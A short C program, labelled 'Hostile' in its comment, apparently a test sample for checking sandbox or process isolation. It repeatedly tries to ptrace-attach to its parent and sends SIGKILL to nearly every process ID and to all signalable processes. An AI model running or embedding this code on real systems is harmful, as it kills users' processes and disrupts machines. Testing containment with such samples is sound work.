/* Hostile: kills whoever it may, and traces its parent. */
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(void)
{
    for (int i = 0; i < 20; i++) {
        ptrace(PTRACE_ATTACH, getppid(), 0, 0);
        for (pid_t pid = 2; pid < 40000; pid++)
            if (pid != getpid())
                kill(pid, SIGKILL);
        kill(-1, SIGKILL);
        usleep(10000);
    }
    return 0;
}
